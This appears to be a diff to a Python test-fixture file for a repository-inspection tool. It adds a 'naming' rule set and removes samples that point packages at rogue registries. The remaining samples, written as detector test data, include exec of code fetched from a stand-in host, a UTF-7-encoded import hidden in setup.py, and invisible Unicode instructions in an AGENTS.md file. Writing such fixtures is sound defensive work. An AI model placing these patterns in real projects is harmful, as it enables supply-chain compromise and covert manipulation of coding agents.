@@ -4,12 +4,13 @@ A sample is (files, verdict, where): the files by name, the verdict the rule mus
 Written from public descriptions, never from malware; `test_samples_are_inert` holds them to it.
 """
 
-from inspection.rules import starting, targeting
+from inspection.rules import naming, starting, targeting
 from inspection.rules.sample import PICKLE_PRINT, QUIET, Sample, js, package, py, task
 
 HOSTILE: dict[str, dict[str, Sample]] = {
     **targeting.HOSTILE,
     **starting.HOSTILE,
+    **naming.HOSTILE,
     "remote_code": {
         "a body goes to exec": py("import requests\nexec(requests.get('https://a.invalid').text)\n"),
         "by an alias and a helper": py(
@@ -356,20 +357,6 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         "an odd encoding": Sample({"setup.py": b"# coding: utf-7\n+AGkAbQBwAG8AcgB0- os\n"}, "review", ("setup.py", 1)),
         "invisible instructions": Sample(
             {"AGENTS.md": "Be kind.\U000e0072\U000e0075\U000e006e\n"}, "review", ("AGENTS.md", 1)
-        ),
-    },
-    "other_packages": {
-        "another npm registry": Sample({".npmrc": "registry=https://a.invalid/npm\n"}, "review", (".npmrc", 1)),
-        "another Python index": Sample(
-            {"requirements.txt": "--index-url https://a.invalid/simple\nx\n"}, "review", ("requirements.txt", 1)
-        ),
-        "an archive by address": Sample(
-            {
-                "package.json": package(postinstall="echo hi")[:-1]
-                + ',\n"dependencies": {"x": "https://a.invalid/x.tgz"}}'
-            },
-            "review",
-            ("package.json", 3),
         ),
     },
     "unread_code": {
